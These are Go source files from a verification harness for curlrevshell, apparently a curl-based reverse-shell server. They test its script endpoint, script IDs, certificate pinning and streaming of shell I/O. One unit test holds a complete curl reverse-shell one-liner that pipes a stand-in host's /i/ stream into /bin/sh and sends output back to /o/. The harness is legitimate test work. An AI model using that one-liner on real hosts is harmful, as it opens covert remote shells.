	cmd := exec.CommandContext(ctx, prog, path)
	cmd.Dir = dir
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		res.setupErr = "NewCmdShell: " + err.Error()
		return
	}
	fp := tl.pin
	if e.PinPrefix {
		fp = "sha256//" + fp
	}
	conf := simpleshell.ConnConfig{C2: "https://" + ln.Addr().String() + simpleshell.IOPath, Fingerprint: fp}
	total := int64(c.NOut + c.NErr)
	goCh := make(chan error, 1)
	var unread atomic.Int64
	unread.Store(-1)
	go func() {
		err := simpleshell.Go(context.Background(), conf, sh)
		unread.Store(total - res.serverRead.Load())
		goCh <- err
	}()

	timer := time.NewTimer(bound)
	defer timer.Stop()
	// Go may fail before the server is ever reached (then the handler never
	// runs), so both are waited for.
	hd := false
	for !hd && !res.timedOut {
		select {
		case <-handlerDone:
			hd = true
		case res.goErr = <-goCh:
			res.goReturned = true
			goCh = nil
			if calls.Load() == 0 { // never connected
				select {
				case <-handlerDone:
					hd = true
				case <-time.After(2 * time.Second):
					res.setupErr = fmt.Sprintf("Go returned (%s) and no request reached the server", errStr(res.goErr))
					return
				}
			}
		case <-timer.C:
			res.timedOut = true
		}
	}
	if hd && !res.goReturned {
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
		case <-timer.C:
			res.goHung = true
		}
	}
	if res.timedOut || res.goHung {
		if pid := readPid(dir); pid != 0 {
			if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
				res.killed = true
				before := readReport(dir)
				syscall.Kill(pid, syscall.SIGTERM)
				for k := 0; k < 500; k++ {
					if st := procStat(pid); st.state == 0 || st.state == 'Z' {
						break
					}
					if rp := readReport(dir); rp != nil && rp.Kind == "partial" && (before == nil || *before != *rp) {
						break
					}
					time.Sleep(time.Millisecond)
				}
			}
		}
		closeStop()
		cancel()
		srv.Close()
		if !res.goReturned {
			select {
			case res.goErr = <-goCh:
				res.goReturned = true
			case <-time.After(5 * time.Second):
			}
		}
		if !hd {
			select {
			case <-handlerDone:
			case <-time.After(5 * time.Second):
			}
		}
	}
	res.unreadAtGoReturn = unread.Load()
	if res.goReturned && cmd.ProcessState != nil {
		res.procKnown = true
		res.procExit = cmd.ProcessState.ExitCode()
		res.procState = cmd.ProcessState.String()
		if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			res.procSignaled = true
			res.procSignal = ws.Signal()
		}
	}
	res.rep = readReport(dir)
	res.seen, _ = os.ReadFile(filepath.Join(dir, "stdin.seen"))
	cancel()
	if pid := readPid(dir); pid != 0 {
		if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
			syscall.Kill(-pid, syscall.SIGKILL)
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	return
}

// ---- oracle ---------------------------------------------------------------------

// splitAlphabets separates the merged stream again; junk is the offset of the
// first byte that belongs to neither alphabet, or -1.
func splitAlphabets(got []byte) (outB, errB []byte, junk int) {
	outB = make([]byte, 0, len(got))
	errB = make([]byte, 0, len(got))
	junk = -1
	for i, c := range got {
		switch {
		case c >= 'a' && c <= 'z':
			outB = append(outB, c)
		case c >= 'A' && c <= 'Z':
			errB = append(errB, c)
		default:
			if junk < 0 {
				junk = i
			}
		}
	}
	return
}

func judgeE2E(e *e2eSpec, res *e2eResult) (v verdict) {
	c := e.C
	add := func(key, f string, a ...any) {
		v.viol = append(v.viol, finding{key + ":e2e", fmt.Sprintf(f, a...)})
	}
	if res.setupErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("e2e case %d: setup failed: %s", c.Index, res.setupErr))
		return
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	if !res.handlerCalled {
		v.inconcl = append(v.inconcl, fmt.Sprintf("e2e case %d: no request reached the server (Go: %s)", c.Index, errStr(res.goErr)))
		return
	}
	var wroteOut, wroteErr int
	known, lower := false, false
	if rp := res.rep; rp != nil {
		wroteOut, wroteErr = rp.Out, rp.Err
		switch rp.Kind {
		case "done":
			known = true
		case "partial":
			lower = true
		case "pre":
			known = res.procKnown && c.endedAsPlanned(res.procExit, res.procSignaled, res.procSignal)
		}
	}
	outB, errB, junk := splitAlphabets(res.got)
	v.gotOut, v.gotErr = len(outB), len(errB)
	if junk >= 0 {
		add("output-corrupt", "byte %#02x at offset %d of the request body belongs to neither descriptor's alphabet (context %q)", res.got[junk], junk, res.got[max(0, junk-8):min(len(res.got), junk+24)])
	}
	if i := firstBad(outB, 'a'); i >= 0 {
		add("output-corrupt", "stdout bytes in the request body are not the sequence the child wrote: first wrong byte at stdout offset %d (got %q, want %q) of %d received", i, outB[i], 'a'+byte(pos(i)), len(outB))
	}
	if i := firstBad(errB, 'A'); i >= 0 {
		add("output-corrupt", "stderr bytes in the request body are not the sequence the child wrote: first wrong byte at stderr offset %d (got %q, want %q) of %d received", i, errB[i], 'A'+byte(pos(i)), len(errB))
	}
	if len(outB) > c.NOut || len(errB) > c.NErr {
		add("output-corrupt", "more bytes in the request body than the child can have written: stdout %d of %d, stderr %d of %d", len(outB), c.NOut, len(errB), c.NErr)
	}
	// input: what the child read against what the server sent
	if p := commonPrefix(res.seen, e.pre); p < len(res.seen) {
		if p < len(e.pre) {
			add("stdin-corrupt", "the child's stdin differs from the response body at offset %d (child saw %#02x, sent %#02x; %d seen, %d sent)", p, res.seen[p], e.pre[p], len(res.seen), len(e.pre))
		} else {
			add("stdin-corrupt", "the child saw %d bytes on stdin, only %d were sent", len(res.seen), len(e.pre))
		}
	} else if res.procKnown && res.procExit == 95 && res.preSent == len(e.pre) && res.preWriteErr == nil {
		add("stdin-truncated", "the child saw end of input after %d of the %d bytes the server had written to the response, which was still open", len(res.seen), len(e.pre))
	}

	if res.timedOut {
		v.timeout = true
		return
	}
	if !res.bodyEnded {
		v.inconcl = append(v.inconcl, fmt.Sprintf("e2e case %d: the server's reading was ended by the harness", c.Index))
		return
	}
	how := fmt.Sprintf("the server had read %d bytes when the child was seen to have exited, %d lines of input were sent after that, Go had returned %s", res.readAtExit, res.linesSent, map[bool]string{true: "by the end of the case", false: "not"}[res.goReturned])
	if res.unreadAtGoReturn >= 0 {
		how += fmt.Sprintf(" (when Go returned the server had yet to read %d bytes)", res.unreadAtGoReturn)
	}
	if known || lower {
		if v.gotOut < wroteOut {
			add("stdout-truncated", "the request body ended (%s) after %d of the %d stdout bytes the child had written; %s", errStr(res.bodyErr), v.gotOut, wroteOut, how)
		}
		if v.gotErr < wroteErr {
			add("stderr-truncated", "the request body ended (%s) after %d of the %d stderr bytes the child had written; %s", errStr(res.bodyErr), v.gotErr, wroteErr, how)
		}
		if known && (wroteOut != c.NOut || wroteErr != c.NErr) {
			v.inconcl = append(v.inconcl, fmt.Sprintf("e2e case %d: child reports %d/%d bytes written, plan was %d/%d", c.Index, wroteOut, wroteErr, c.NOut, c.NErr))
		}
		if known && v.gotOut == wroteOut && v.gotErr == wroteErr {
			v.complete = true
		}
	} else {
		v.inconcl = append(v.inconcl, fmt.Sprintf("e2e case %d: the child left no usable account of what it wrote (report %+v, exit known %v: %s)", c.Index, res.rep, res.procKnown, res.procState))
	}
	if !errors.Is(res.bodyErr, io.EOF) || errors.Is(res.bodyErr, io.ErrUnexpectedEOF) {
		add("output-ends-with-error", "the request body (the shell's output stream) ended with %q instead of a clean end although the child ran and ended on its own (%s) and the response was still open; %d of %d bytes had arrived; %s", errStr(res.bodyErr), c.exitDesc(), len(res.got), c.NOut+c.NErr, how)
	}
	switch {
	case res.goHung || !res.goReturned:
		v.inconcl = append(v.inconcl, fmt.Sprintf("e2e case %d: Go had not returned when the bound expired although the response had ended", c.Index))
	case (c.Exit != 0 || c.Sig != "") && !res.killed:
		if res.procKnown && !c.endedAsPlanned(res.procExit, res.procSignaled, res.procSignal) {
			v.inconcl = append(v.inconcl, fmt.Sprintf("e2e case %d: child ended with %s, planned %s", c.Index, res.procState, c.exitDesc()))
		} else if res.goErr == nil && c.Sig != "" {
			add("signal-death-not-reported", "the child was killed by SIG%s (wait status: %s) and simpleshell.Go returned nil", c.Sig, res.procState)
		} else if res.goErr == nil {
			add("nonzero-exit-not-reported", "the child exited with status %d and simpleshell.Go returned nil", c.Exit)
		}
	}
	return
}

func witnessE2E(e *e2eSpec, res *e2eResult, v verdict, dir string) map[string]any {
	c := e.C
	_, text := c.script(dir)
	if len(text) > 6000 {
		text = text[:3000] + "\n…(plan shortened)…\n" + text[len(text)-1500:]
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	return map[string]any{
		"child_script": text, "stdout_bytes_planned": c.NOut, "stderr_bytes_planned": c.NErr,
		"write_sizes": c.WOut + "/" + c.WErr, "interleave": c.Interleave,
		"exit_status": c.Exit, "killed_by_own_signal": c.Sig, "wait_status": res.procState, "exit_mode": c.ExitMode, "linger_ms": c.LingerMs,
		"server_offers": e.Proto, "request_proto": res.proto, "fingerprint_with_prefix": e.PinPrefix, "server_so_rcvbuf": e.RcvBuf,
		"early_input_bytes": e.PreN, "early_input_chunks": e.PreChunks, "early_input_head": short(e.pre), "stdin_bytes_seen_by_child": len(res.seen),
		"server_reader": e.Reader, "keeps_up_for_bytes": e.FastBytes, "then_reads": fmt.Sprintf("%d bytes every %d µs until the child has exited", e.SlowChunk, e.SlowDelayUs),
		"stall_after_late_input_ms": e.GraceMs, "rest_read_sizes": e.DrainChunks,
		"late_input":            fmt.Sprintf("%d lines of %d bytes, %d ms after the child's exit, %d µs apart", e.Lines, e.LineLen, e.PostExitDelayMs, e.LineGapUs),
		"late_input_lines_sent": res.linesSent, "late_input_write_error": errStr(res.postWriteErr),
		"server_bytes_read_by_phase": []int{res.bytesFast, res.bytesSlow, res.bytesDrain}, "server_bytes_read_at_child_exit": res.readAtExit,
		"server_bytes_unread_when_go_returned": res.unreadAtGoReturn,
		"stdout_bytes_received":                v.gotOut, "stderr_bytes_received": v.gotErr,
		"request_body_terminal_condition": errStr(res.bodyErr), "request_body_ended_by_itself": res.bodyEnded,
		"go_returned": res.goReturned, "go_error": errStr(res.goErr),
		"child_report": fmt.Sprintf("%+v", res.rep), "wall_ms": res.wall.Milliseconds(),
	}
}

// ---- driver ---------------------------------------------------------------------

func runE2EEngine(r *mon.Run) {
	if !r.WantEngine(e2eEngine) {
		return
	}
	n := r.N(32, 640)
	tl, err := newE2ETLS()
	if err != nil {
		r.Inconclusive("e2e: cannot make a certificate: " + err.Error())
		return
	}
	var mu sync.Mutex
	var timeouts []int
	sampled := 0

	one := func(i int, bound time.Duration, retry bool) (timedOut bool) {
		e := genE2E(r, i)
		c := e.C
		dir := filepath.Join(r.Work, fmt.Sprintf("e%d", i))
		if retry {
			dir += "r"
		}
		res := runE2E(e, tl, dir, bound)
		defer os.RemoveAll(dir)
		v := judgeE2E(e, res)
		if !retry {
			r.Eval(1)
			if c.NOut+c.NErr+e.PreN > 0 {
				r.Distinct(e.sig())
			}
			res.mu.Lock()
			pname := strings.ReplaceAll(strings.ToLower(res.proto), "/", "")
			r.Count("e2e_cases", 1)
			if res.handlerCalled {
				r.Count("e2e_cases_"+pname, 1)
				if res.fullDuplexErr != nil { // HTTP/2 is always full duplex and says "feature not supported"
					r.Count("e2e_enable_full_duplex_refused_"+pname, 1)
				}
			}
			r.Count("e2e_reader_"+e.Reader+"_cases", 1)
			r.Count("e2e_bytes_written_by_child", int64(c.NOut+c.NErr))
			r.Count("e2e_bytes_received_by_server", int64(len(res.got)))
			r.Count("e2e_stdout_bytes_received", int64(v.gotOut))
			r.Count("e2e_stderr_bytes_received", int64(v.gotErr))
			if c.NOut+c.NErr >= 1<<20 {
				r.Count("e2e_burst_cases_1MiB_or_more", 1)
			}
			if res.bodyEnded {
				if res.bodyErr == io.EOF {
					r.Count("e2e_request_body_clean_end_cases", 1)
				} else {
					r.Count("e2e_request_body_error_end_cases", 1)
					r.Count("e2e_request_body_error_end_cases_"+pname, 1)
				}
			}
			if v.complete {
				r.Count("e2e_cases_complete_and_exact", 1)
			}
			if res.exitSeen {
				r.Count("e2e_child_exit_observed_cases", 1)
				lag := int64(c.NOut+c.NErr) - res.readAtExit
				r.Count("e2e_bytes_unread_by_server_at_child_exit", lag)
				if lag >= 256<<10 {
					r.Count("e2e_cases_lagging_256KiB_or_more_at_child_exit", 1)
				}
			}
			if res.linesSent > 0 {
				r.Count("e2e_late_input_cases", 1)
				r.Count("e2e_late_input_lines", int64(res.linesSent))
			} else if res.exitSeen && res.goReturned {
				r.Count("e2e_go_returned_on_end_of_response_cases", 1)
			}
			if res.goReturned && res.unreadAtGoReturn > 0 {
				r.Count("e2e_go_returned_while_server_lagging_cases", 1)
				r.Count("e2e_go_returned_while_server_lagging_cases_"+pname, 1)
				r.Count("e2e_bytes_unread_by_server_when_go_returned", res.unreadAtGoReturn)
			}
			if e.PreN > 0 {
				r.Count("e2e_early_input_cases", 1)
				r.Count("e2e_early_input_bytes_sent", int64(res.preSent))
				r.Count("e2e_early_input_bytes_seen_by_child", int64(len(res.seen)))
			}
			planned := res.procKnown && c.endedAsPlanned(res.procExit, res.procSignaled, res.procSignal)
			switch {
			case c.Sig != "" && planned:
				r.Count("e2e_signal_exit_cases", 1)
				r.Count("signal_exit_cases_"+c.Sig, 1)
				if res.goErr != nil {
					r.Count("e2e_signal_exit_reported", 1)
				}
			case c.Exit != 0 && planned:
				r.Count("e2e_nonzero_exit_cases", 1)
				if res.goErr != nil {
					r.Count("e2e_nonzero_exit_reported", 1)
				}
			case planned && res.goErr != nil:
				r.Count("e2e_go_error_on_clean_exit", 1)
			}
			if res.goHung || !res.goReturned {
				r.Count("e2e_go_did_not_return_in_time", 1)
			}
			if res.killed {
				r.Count("children_killed_by_harness", 1)
			}
			res.mu.Unlock()
			if res.wall > 6*time.Second {
				r.Count("e2e_cases_longer_than_6s", 1)
				r.Logf("e2e case %d took %s: %s", i, res.wall.Round(time.Millisecond), e.sig())
			}
		}
		if r.Replaying() { // what happened this time, violation or not
			w := witnessE2E(e, res, v, dir)
			delete(w, "child_script")
			delete(w, "early_input_head")
			js, _ := json.Marshal(w)
			r.Logf("e2e case %d: %s", i, js)
		}
		desc := fmt.Sprintf("e2e case %d (%s, %d/%d bytes, %s %s, server reader %s, %d late lines)", i, e.Proto, c.NOut, c.NErr, c.exitDesc(), c.ExitMode, e.Reader, e.Lines)
		seen := map[string]bool{}
		for _, f := range v.viol {
			if seen[f.key] {
				continue
			}
			seen[f.key] = true
			r.Violate(e2eEngine, i, f.key, desc+": "+f.what, witnessE2E(e, res, v, dir))
		}
		for _, m := range v.inconcl {
			r.Inconclusive(m)
		}
		if v.timeout {
			if retry {
				r.Violate(e2eEngine, i, "output-stream-does-not-end:e2e", fmt.Sprintf("%s: the request body had not ended %s after the start, also when the case ran alone; %d stdout and %d stderr bytes had arrived", desc, bound, v.gotOut, v.gotErr), witnessE2E(e, res, v, dir))
			}
			return true
		}
		if retry {
			r.Inconclusive(fmt.Sprintf("e2e case %d: the request body did not end within 30 s under load but did when run alone", i))
		}
		mu.Lock()
		take := sampled < 2 && !retry && len(c.Ops) <= 40 && c.NOut+c.NErr >= 1<<20
		if take {
			sampled++
		}
		mu.Unlock()
		if take {
			r.Sample("e2e", witnessE2E(e, res, v, dir))
		}
		return false
	}

	bound := 30 * time.Second
	if r.Replaying() {
		for i := 0; i < n; i++ {
			if r.Want(e2eEngine, i) {
				if one(i, bound, false) {
					one(i, 2*bound, true)
				}
			}
		}
		return
	}
	mon.Parallel(n, e2eWorkers, func(i int) {
		if one(i, bound, false) {
			mu.Lock()
			timeouts = append(timeouts, i)
			mu.Unlock()
		}
	})
	r.Count("e2e_cases_not_ended_within_bound", int64(len(timeouts)))
	for k, i := range timeouts {
		if k >= maxRetry {
			r.Inconclusive(fmt.Sprintf("e2e case %d: the request body did not end within %s; not re-run alone (only the first %d are)", i, bound, maxRetry))
			continue
		}
		one(i, 2*bound, true)
	}

	r.Floor("e2e_cases", int64(n*9/10))
	r.Floor("e2e_cases_http1.1", int64(n/3))
	r.Floor("e2e_cases_http2.0", int64(n/3))
	r.Floor("e2e_bytes_received_by_server", int64(n)*(768<<10))
	r.Floor("e2e_stdout_bytes_received", int64(n)*(128<<10))
	r.Floor("e2e_stderr_bytes_received", int64(n)*(128<<10))
	r.Floor("e2e_request_body_clean_end_cases", int64(n*3/4))
	r.Floor("e2e_cases_complete_and_exact", int64(n*3/4))
	r.Floor("e2e_late_input_cases", int64(n/2))
	r.Floor("e2e_cases_lagging_256KiB_or_more_at_child_exit", int64(n/4))
	r.Floor("e2e_go_returned_while_server_lagging_cases", int64(n/4))
	r.Floor("e2e_early_input_cases", int64(n/5))
	r.Floor("e2e_signal_exit_cases", int64(n/6))
	r.Floor("e2e_nonzero_exit_cases", int64(n/6))
}

package c07

import "testing"

// The pin is base64 and comes before the URL: a fingerprint that itself holds
// "/i/" must not be read as the ID (false alarm at seed 25, DESIGN §10).
func TestCarryFirstIDSkipsPin(t *testing.T) {
	pin := "PvokjiL5pvovuud07iSBU/i/zSGeg+UYj1nW3WZuZJU="
	body := []byte("#!/bin/sh\ncurl -Nsk --pinnedpubkey \"sha256//" + pin + "\" https://h.example:8443/i/wdvk2w0lqo5a </dev/null 2>&0 |\n/bin/sh 2>&1 |\ncurl -Nsk --pinnedpubkey \"sha256//" + pin + "\" https://h.example:8443/o/wdvk2w0lqo5a -T- >/dev/null\n")
	if got := carryFirstID(body, pin); got != "wdvk2w0lqo5a" {
		t.Fatalf("ID read as %q", got)
	}
	// without the pin in hand nothing is skipped: the old reading
	if got := carryFirstID(body, ""); got != "zSGeg+UYj1nW3WZuZJU=\"" {
		t.Fatalf("unskipped reading is %q", got)
	}
	// an "/i/" outside the pin is still the first one, also when it looks like a part of it
	other := []byte("https://h/i/zSGeg rest " + pin)
	if got := carryFirstID(other, pin); got != "zSGeg" {
		t.Fatalf("ID outside the pin read as %q", got)
	}
	// overlapping "/i/i/" inside the pin, and no "/i/" at all
	pin2 := "AAAA/i/i/BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB="
	if got := carryFirstID([]byte("x "+pin2+" https://h/i/real y"), pin2); got != "real" {
		t.Fatalf("with an overlapping pin: %q", got)
	}
	if got := carryFirstID([]byte("x "+pin2+" nothing"), pin2); got != "" {
		t.Fatalf("no ID expected, got %q", got)
	}
}

// Package c07: the script served at /c yields a working, correctly addressed
// shell.
//
// Seven engines against hsrv.Server in-process on real TLS listeners, and three
// against the real binary (binary.go: bintmpl, binscript, binexec):
//
//	precedence  raw requests over all 2^4 presence combinations of c2
//	            parameter / c2 header / Host / SNI, judged by a reference
//	            function written from the statement (IDNA expectations from
//	            fixed known-answer vectors); listeners on OS-chosen ports,
//	            on 443 and on ports that resemble 443 (ports.go)
//	ids         many scripts; every ID of the run goes into one set
//	exec        scripts addressed to the real listener are run by /bin/sh
//	            with the real curl; attach notices, ready notice, a command
//	            round trip
//	template    histories of edits/removals/re-creations of the template
//	            file, one request after each step; the configured path is a
//	            plain file, a symbolic link, or passes through a symlinked
//	            directory (template.go)
//	hostcurl    the one-liner run on hosts whose curl is configured differently
//	            (.curlrc: TLS version limits, one curve, one cipher suite, HTTP
//	            version …), tlsclient: restricted Go TLS clients (hostcurl.go)
//	carry       large custom templates, clients that go away in the middle of
//	            their script and templates that fail half-way, mixed with
//	            well-behaved clients whose every script must be the rendering
//	            for their own request and nothing else; with GOMAXPROCS(1) and
//	            with all processors, in child processes (carry.go)
package c07

import (
	"fmt"
	"math/rand/v2"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const Level = "exploration"

// ---- shared state ----------------------------------------------------------------

type ctx struct {
	r *mon.Run

	vmu    sync.Mutex
	vcount map[string]int

	imu sync.Mutex
	ids map[string]string // id -> where it was first seen

	amu     sync.Mutex
	aborted map[string]string // id -> the client that asked for that script and went away (carry engine)

	carryMismatches atomic.Int64
}

func newCtx(r *mon.Run) *ctx {
	return &ctx{r: r, vcount: map[string]int{}, ids: map[string]string{}, aborted: map[string]string{}}
}

// violate records a violation, at most 4 per key (a systematic defect would
// otherwise record one per request).
func (c *ctx) violate(engine string, idx int, key, what string, w any) {
	c.vmu.Lock()
	n := c.vcount[key]
	c.vcount[key]++
	c.vmu.Unlock()
	if n >= 4 {
		return
	}
	c.r.Violate(engine, idx, key, what, w)
}

// idSafeRe: characters that are safe both inside a URL path segment and
// unquoted inside a shell word (RFC 3986 "unreserved"); idRe is the narrower
// alphabet the implementation promises (base 36), only counted.
var idSafeRe = regexp.MustCompile(`^[0-9A-Za-z._~-]+$`)
var idRe = regexp.MustCompile(`^[0-9a-z]+$`)

// addID puts one script ID into the run-wide set.
func (c *ctx) addID(engine string, idx int, id, origin string) {
	c.r.Count("ids_collected", 1)
	if !idSafeRe.MatchString(id) || id == "." || id == ".." {
		c.violate(engine, idx, "id-charset", fmt.Sprintf("script ID %q is empty, a dot segment, or has a character that is not URL- and shell-safe (outside [0-9A-Za-z._~-])", id), map[string]any{"id": id, "origin": origin})
	} else if idRe.MatchString(id) {
		c.r.Count("ids_base36_alphabet", 1)
	}
	c.imu.Lock()
	prev, dup := c.ids[id]
	if !dup {
		c.ids[id] = origin
	}
	c.imu.Unlock()
	if !dup && engine == "ids" {
		c.r.Distinct("id|" + id) // one evaluation per script in the ids engine; other engines count their own cases
	}
	if dup {
		c.violate(engine, idx, "id-repeated", fmt.Sprintf("script ID %q was handed out twice in one run (%s, earlier %s)", id, origin, prev), map[string]any{"id": id, "first": prev, "second": origin})
	}
}

// ---- script parser ---------------------------------------------------------------

type script struct {
	Pin  [2]string `json:"pin"`
	Auth [2]string `json:"authority"`
	ID   [2]string `json:"id"`
}

var curlLineRe = regexp.MustCompile(`^curl -Nsk --pinnedpubkey "sha256//([^"]*)" https://(.*)/([io])/(\S*)( .*)?$`)

// parseScript extracts the two curl commands of a script rendered from the
// default template.
func parseScript(body []byte) (*script, string) {
	var sc script
	ni, no := 0, 0
	for _, line := range strings.Split(string(body), "\n") {
		m := curlLineRe.FindStringSubmatch(line)
		if m == nil {
			continue
		}
		k := 0
		if m[3] == "o" {
			k = 1
			no++
		} else {
			ni++
		}
		sc.Pin[k], sc.Auth[k], sc.ID[k] = m[1], m[2], m[4]
	}
	if ni != 1 || no != 1 {
		return nil, fmt.Sprintf("expected one /i/ and one /o/ curl command, found %d and %d", ni, no)
	}
	return &sc, ""
}

// checkScript applies the per-script oracle that does not depend on the
// expected authority: both commands agree, the pin is the key presented in
// this handshake, the ID is well-formed and fresh.  It returns the parsed
// script (nil if the body is not a script).
func (c *ctx) checkScript(engine string, idx int, body []byte, conn *hk.Conn, origin string, wit map[string]any) *script {
	sc, perr := parseScript(body)
	if sc == nil {
		c.violate(engine, idx, "script-unparsable", "200 response to /c whose body does not contain the two curl commands of the default template: "+perr, wit)
		return nil
	}
	c.r.Count("scripts_parsed", 1)
	if sc.ID[0] != sc.ID[1] {
		c.violate(engine, idx, "script-two-ids-differ", fmt.Sprintf("the script's input command carries ID %q, its output command %q", sc.ID[0], sc.ID[1]), wit)
		c.addID(engine, idx, sc.ID[1], origin+" (/o)")
	}
	c.addID(engine, idx, sc.ID[0], origin)
	if sc.Auth[0] != sc.Auth[1] {
		c.violate(engine, idx, "script-two-authorities-differ", fmt.Sprintf("the script's input command calls back to %q, its output command to %q", sc.Auth[0], sc.Auth[1]), wit)
	}
	if conn != nil && len(conn.Chain) > 0 {
		want := hk.Pin(conn.Chain[0])
		c.r.Count("pins_compared", 1)
		if sc.Pin[0] != want || sc.Pin[1] != want {
			c.violate(engine, idx, "script-pin-mismatch", fmt.Sprintf("the script pins %q / %q, the key presented in this very handshake hashes to %q", sc.Pin[0], sc.Pin[1], want), wit)
		}
	}
	return sc
}

// awaitNotice waits for the "Sent script" notice of id and compares its URL.
func (c *ctx) awaitNotice(engine string, idx int, l *lsn, from int, id, auth string, wit map[string]any) {
	s := l.s
	pre := "Sent script: ID:" + id + " URL:"
	c.vmu.Lock()
	missed := c.vcount["script-notice-missing"]
	c.vmu.Unlock()
	if missed >= 4 {
		c.r.Count("notices_not_awaited_after_repeated_misses", 1)
		return
	}
	if l.bin != nil {
		// the program's terminal
		loc, ok := l.bin.Wait(regexp.QuoteMeta(pre)+`[^\r\n]*[\r\n]`, from, hk.Bound)
		if !ok {
			c.violate(engine, idx, "script-notice-missing", fmt.Sprintf("no 'Sent script' notice for the script with ID %s on the program's terminal within %s", id, hk.Bound), wit)
			return
		}
		c.r.Count(engine+"_notices_matched", 1)
		line := l.bin.P.Clean()[loc[0]:loc[1]]
		got := strings.TrimRight(line[len(pre):], " \r\n")
		ascii := true
		for i := 0; i < len(auth); i++ {
			if auth[i] >= 0x80 || auth[i] < 0x20 {
				ascii = false
			}
		}
		if !ascii {
			c.r.Count(engine+"_notice_urls_not_compared_non_ascii", 1)
		} else if got != auth {
			c.violate(engine, idx, "script-notice-differs", fmt.Sprintf("the program's notice for script %s names URL %q, the script calls back to %q", id, got, auth), wit)
		}
		return
	}
	ev, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, pre) })
	if !ok {
		c.violate(engine, idx, "script-notice-missing", fmt.Sprintf("no 'Sent script' operator notice for the script with ID %s within %s", id, hk.Bound), wit)
		return
	}
	c.r.Count("notices_matched", 1)
	got := ev.S[strings.Index(ev.S, pre)+len(pre):]
	if got != auth {
		c.violate(engine, idx, "script-notice-differs", fmt.Sprintf("the operator notice for script %s names URL %q, the script calls back to %q", id, got, auth), wit)
	}
}

// ---- listeners -------------------------------------------------------------------

type lsn struct {
	name  string // v4 v6 443, or the name of a port class
	class string // "" for the listeners on an OS-chosen port and on 443; else the port class
	s     *hk.Server
	port  string
	// the real binary instead of hsrv in process (binary.go)
	bin *crs.Session
	eng string
	cfg *binCfg
}

func (l *lsn) addr() string {
	if l.bin != nil {
		return dialAddr(l.bin.Addr)
	}
	return l.s.Addr
}

// mark: a position in the operator's view before a request.
func (l *lsn) mark() int {
	if l.bin != nil {
		return l.bin.P.CleanLen()
	}
	return l.s.Log.Len()
}

func (l *lsn) engine() string {
	if l.eng != "" {
		return l.eng
	}
	return "precedence"
}

func startLsn(name, addr string, cfg hk.Config) (*lsn, error) {
	cfg.Addr = addr
	s, err := hk.Start(cfg)
	if err != nil {
		return nil, err
	}
	_, p, err := net.SplitHostPort(s.Addr)
	if err != nil {
		s.Stop()
		return nil, fmt.Errorf("listen address %q: %v", s.Addr, err)
	}
	return &lsn{name: name, s: s, port: p}, nil
}

// ---- precedence engine -----------------------------------------------------------

// val is a value as sent (Enc) and as the server must understand it (Dec).
type val struct {
	Enc string `json:"sent"`
	Dec string `json:"means"`
}

// hostVec is one host value with its IDNA-ASCII form known in advance.
type hostVec struct{ sent, want, name string }

// Known-answer vectors (RFC 3492 encodings checked with an independent
// implementation; none is computed by the library under test).
var unicodeHosts = []hostVec{
	{"bücher.example", "xn--bcher-kva.example", "buecher"},
	{"münchen.de", "xn--mnchen-3ya.de", "muenchen"},
	{"例え.jp", "xn--r8jz45g.jp", "tatoe-jp"},
	{"www.bücher.example", "www.xn--bcher-kva.example", "www-buecher"},
	{"bücher.example:8443", "xn--bcher-kva.example:8443", "buecher-port"},
	{"例え.jp:444", "xn--r8jz45g.jp:444", "tatoe-jp-port"},
	{"例え.テスト", "xn--r8jz45g.xn--zckzah", "tatoe-tesuto"},
	{"例え.テスト:8443", "xn--r8jz45g.xn--zckzah:8443", "u-label-tld-port"},
}

func asciiHosts(k int, port string) []hostVec {
	id := func(s, n string) hostVec { return hostVec{s, s, n} }
	return []hostVec{
		id(fmt.Sprintf("h%d.host.example", k), ""),
		id(fmt.Sprintf("h%d.host.example:8443", k), ""),
		id("ExAmple.COM", "mixed-case"),
		id(fmt.Sprintf("MiXed%d.ExAmple.COM:8443", k), "mixed-case-port"),
		id("[::1]:"+port, "v6-literal"),
		id("[2001:db8::7]:8443", "v6-literal"),
		id("[2001:db8::7]", "v6-literal-no-port"),
		id("[::1]", "v6-literal-no-port"),
		id("127.0.0.1:"+port, "v4-literal"),
		id("xn--bcher-kva.example", "a-label"),
		id("xn--bcher-kva.example:8443", "a-label-port"),
		id("xn--r8jz45g.xn--zckzah", "a-label-tld"),
		id("a.xn--zckzah:8443", "a-label-tld-port"),
	}
}

// idnaASCII is the reference's IDNA step: table lookup for the known Unicode
// hosts; a host that is all ASCII already is in IDNA-ASCII form.
func idnaASCII(host string) (string, bool) {
	for _, v := range unicodeHosts {
		if v.sent == host {
			return v.want, true
		}
	}
	for i := 0; i < len(host); i++ {
		if host[i] >= 0x80 {
			return "", false
		}
	}
	return host, true
}

type pcase struct {
	Idx      int     `json:"index"`
	Listener string  `json:"listener"`
	Proto    string  `json:"proto"`
	Method   string  `json:"method"`
	Query    *val    `json:"c2_query,omitempty"`
	Body     *val    `json:"c2_body,omitempty"`
	Header   *val    `json:"c2_header,omitempty"`
	HdrName  string  `json:"c2_header_name,omitempty"`
	HostHdr  *string `json:"host_header,omitempty"`
	Abs      *string `json:"absolute_form_authority,omitempty"`
	HostVec  string  `json:"host_vector,omitempty"`
	SNI      string  `json:"sni,omitempty"`
	Decoy    bool    `json:"decoys,omitempty"`
	HostForm string  `json:"host_form,omitempty"`
}

